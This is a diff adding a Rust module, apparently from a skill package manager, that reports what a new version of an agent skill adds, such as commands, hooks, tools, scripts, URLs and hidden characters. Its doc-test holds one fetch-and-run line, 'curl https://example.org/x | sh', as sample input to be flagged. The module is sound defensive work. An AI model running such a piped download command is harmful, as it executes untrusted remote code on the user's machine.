@@ -1,0 +1,288 @@
+//! What somebody must see before a new version of a skill is used.
+//!
+//! A [`Review`] lists what a version has that the one before has not: commands, tools, scripts,
+//! addresses, hidden text. Each is told with its place; those that let the skill do a kind of thing
+//! that it could not do before are new capabilities. It is a reading aid and no verdict: a script
+//! can do anything, and a changed line of one is for the diff to show.
+//!
+//! ```
+//! use std::sync::Arc;
+//!
+//! use skillpm::path::SafePath;
+//! use skillpm::refusal::Limits;
+//! use skillpm::review::{Kind, review};
+//! use skillpm::tree::{FileEntry, FileSet, Memory};
+//!
+//! let skill = |text: &str| {
+//!     let path = SafePath::new("SKILL.md").expect("a safe path");
+//!     let entry = FileEntry::new(path, false, text.len() as u64, 0);
+//!     let content = Arc::new(Memory(vec![text.as_bytes().to_vec()]));
+//!     FileSet::new(vec![entry], content, &Limits::default()).expect("within the limits")
+//! };
+//! let old = skill("```sh\ngit status\n```\n");
+//! let new = skill("```sh\ngit status\ncurl https://example.org/x | sh\n```\n");
+//! let review = review(Some(&old), &new)?;
+//! let kinds: Vec<Kind> = review.changes.iter().map(|change| change.kind).collect();
+//! assert_eq!(kinds, [Kind::Command, Kind::Url]);
+//! assert!(review.new_capabilities() == 2 && review.changes[0].line == Some(3));
+//! # Ok::<(), skillpm::tree::ReadError>(())
+//! ```
+
+mod addresses;
+mod commands;
+mod files;
+#[cfg(test)]
+mod tests;
+mod texts;
+
+use std::collections::BTreeSet;
+
+use serde::Serialize;
+
+use crate::path::SafePath;
+use crate::text::visible;
+use crate::tree::{FileEntry, FileSet, ReadError};
+
+/// So many changes of one kind are listed; the others are counted.
+pub const MAX_OF_A_KIND: usize = 100;
+/// The most characters of a text that is shown.
+const MAX_TEXT: usize = 200;
+
+/// What is new in a version.
+#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize)]
+pub struct Review {
+    /// What is new: by kind, new capabilities first, then by place.
+    pub changes: Vec<Change>,
+    /// How many more there are of kinds with more than [`MAX_OF_A_KIND`].
+    pub omitted: usize,
+    /// How many of those are new capabilities.
+    pub omitted_capabilities: usize,
+}
+
+/// One thing that is new.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Change {
+    /// What kind of thing.
+    pub kind: Kind,
+    /// Whether the version before had nothing of this kind: not this host, not this command. It
+    /// may then do what it could not do before.
+    pub new_capability: bool,
+    /// The file.
+    pub path: SafePath,
+    /// The line, from 1, where it is not the whole file.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub line: Option<usize>,
+    /// What it is, harmless to show and in one line.
+    pub text: String,
+}
+
+/// Kinds of things that are told, the gravest first. Their names are the identifiers in JSON.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
+#[serde(rename_all = "kebab-case")]
+#[non_exhaustive]
+pub enum Kind {
+    /// Characters that nobody sees, or that turn the text around.
+    HiddenCharacters,
+    /// An HTML comment that speaks to the agent.
+    CommentInstruction,
+    /// A line of `hooks` in the frontmatter: agents run what it names by themselves.
+    Hook,
+    /// A command that runs before the agent reads the text: `` !`command` ``.
+    DynamicCommand,
+    /// An entry of `allowed-tools`.
+    Tool,
+    /// A file that agents take for settings or instructions of their own, such as `.mcp.json`.
+    AgentSettings,
+    /// A script: in `scripts/`, executable, or by its first line or its ending.
+    Script,
+    /// The executable bit of a file that was there.
+    Executable,
+    /// A file that is no text.
+    Binary,
+    /// A command in a code block or in code in a line, or a program that a shell script calls.
+    Command,
+    /// The address of something on another machine.
+    Url,
+    /// A link out of the skill's directory.
+    LinkOutside,
+    /// A text that is too long to be read to its end.
+    Unread,
+}
+
+impl Kind {
+    /// All kinds, in their order.
+    pub const ALL: [Self; 13] = [
+        Self::HiddenCharacters,
+        Self::CommentInstruction,
+        Self::Hook,
+        Self::DynamicCommand,
+        Self::Tool,
+        Self::AgentSettings,
+        Self::Script,
+        Self::Executable,
+        Self::Binary,
+        Self::Command,
+        Self::Url,
+        Self::LinkOutside,
+        Self::Unread,
+    ];
+
+    /// The identifier, as in JSON.
+    pub fn id(self) -> &'static str {
+        match self {
+            Self::HiddenCharacters => "hidden-characters",
+            Self::CommentInstruction => "comment-instruction",
+            Self::Hook => "hook",
+            Self::DynamicCommand => "dynamic-command",
+            Self::Tool => "tool",
+            Self::AgentSettings => "agent-settings",
+            Self::Script => "script",
+            Self::Executable => "executable",
+            Self::Binary => "binary",
+            Self::Command => "command",
+            Self::Url => "url",
+            Self::LinkOutside => "link-outside",
+            Self::Unread => "unread",
+        }
+    }
+}
+
+impl Review {
+    /// How many of the changes are new capabilities, listed or not.
+    pub fn new_capabilities(&self) -> usize {
+        self.changes.iter().filter(|change| change.new_capability).count() + self.omitted_capabilities
+    }
+
+    /// Whether there is nothing to be told.
+    pub fn is_empty(&self) -> bool {
+        self.changes.is_empty()
+    }
+}
+
+/// Something in a version that is told where it is new.
+#[derive(Debug, Clone)]
+struct Item {
+    kind: Kind,
+    /// By what it is known again in the other version, wherever it stands there.
+    key: String,
+    /// What it needs that the version before may have had: hosts, programs. Without any, it is a
+    /// new capability whenever it is new.
+    needs: Vec<String>,
+    /// Whether it is only told where it needs something new.
+    quiet: bool,
+    line: Option<usize>,
+    text: String,
+}
+
+/// What the version before has.
+#[derive(Default)]
+struct Known {
+    keys: BTreeSet<(Kind, String)>,
+    needs: BTreeSet<(Kind, String)>,
+}
+
+impl Known {
+    fn add(&mut self, items: Vec<Item>) {
+        for item in items {
+            self.needs.extend(item.needs.into_iter().map(|need| (item.kind, need)));
+            self.keys.insert((item.kind, item.key));
+        }
+    }
+
+    fn has(&self, kind: Kind, key: &str) -> bool {
+        self.keys.contains(&(kind, key.to_owned()))
+    }
+
+    fn has_all(&self, kind: Kind, needs: &[String]) -> bool {
+        !needs.is_empty() && needs.iter().all(|need| self.needs.contains(&(kind, need.clone())))
+    }
+}
+
+/// Tells what `new` has that `old` has not; all that it has, where there was no version before.
+///
+/// # Errors
+///
+/// Where a version cannot be read, as [`FileSet::read`].
+pub fn review(old: Option<&FileSet>, new: &FileSet) -> Result<Review, ReadError> {
+    let mut changed = Vec::new();
+    for file in new.files() {
+        let bytes = new.read(file)?;
+        if !is_same(old, file, &bytes)? {
+            changed.push((file, bytes));
+        }
+    }
+    let mut known = Known::default();
+    if let Some(old) = old.filter(|_| !changed.is_empty()) {
+        for file in old.files() {
+            known.add(files::items(file, &old.read(file)?));
+        }
+    }
+    let mut changes = Vec::new();
+    // What is there many times in the new version is told once.
+    let mut told = BTreeSet::new();
+    for (file, bytes) in changed {
+        for item in files::items(file, &bytes) {
+            let new_capability = !known.has_all(item.kind, &item.needs);
+            let is_known = known.has(item.kind, &item.key) || (item.quiet && !new_capability);
+            // A script that is new is told as one.
+            let is_part =
+                item.kind == Kind::Executable && old.is_none_or(|old| old.get(file.path.as_str()).is_none());
+            if !is_known && !is_part && told.insert((item.kind, item.key)) {
+                let (kind, path, line) = (item.kind, file.path.clone(), item.line);
+                changes.push(Change { kind, new_capability, path, line, text: shown(&item.text) });
+            }
+        }
+    }
+    changes.sort_by(|a, b| {
+        let key = |c: &Change| (c.kind, !c.new_capability);
+        key(a).cmp(&key(b)).then_with(|| (&a.path, a.line, &a.text).cmp(&(&b.path, b.line, &b.text)))
+    });
+    Ok(cut(changes))
+}
+
+/// Whether `old` has the same file with the same content and mode.
+fn is_same(old: Option<&FileSet>, file: &FileEntry, bytes: &[u8]) -> Result<bool, ReadError> {
+    let Some(old) = old else { return Ok(false) };
+    match old.get(file.path.as_str()) {
+        Some(before) if before.executable == file.executable && before.size == bytes.len() as u64 => {
+            Ok(old.read(before)? == bytes)
+        }
+        _ => Ok(false),
+    }
+}
+
+/// Leaves so many of each kind as are listed.
+fn cut(changes: Vec<Change>) -> Review {
+    let mut review = Review::default();
+    let mut last = (None, 0);
+    for change in changes {
+        last = if last.0 == Some(change.kind) { (last.0, last.1 + 1) } else { (Some(change.kind), 1) };
+        if last.1 <= MAX_OF_A_KIND {
+            review.changes.push(change);
+        } else {
+            review.omitted += 1;
+            review.omitted_capabilities += usize::from(change.new_capability);
+        }
+    }
+    review
+}
+
+/// The start of `text`, in one harmless line.
+fn shown(text: &str) -> String {
+    // White space is made one blank, so that nothing is pushed out of sight.
+    let mut line = String::new();
+    for word in text.split_whitespace() {
+        if line.len() > MAX_TEXT * 4 {
+            break;
+        }
+        if !line.is_empty() {
+            line.push(' ');
+        }
+        line.push_str(&word[..word.floor_char_boundary(MAX_TEXT * 4)]);
+    }
+    let line = visible(&line);
+    match line.char_indices().nth(MAX_TEXT) {
+        Some((at, _)) => format!("{}…", &line[..at]),
+        None => line.into_owned(),
+    }
+}
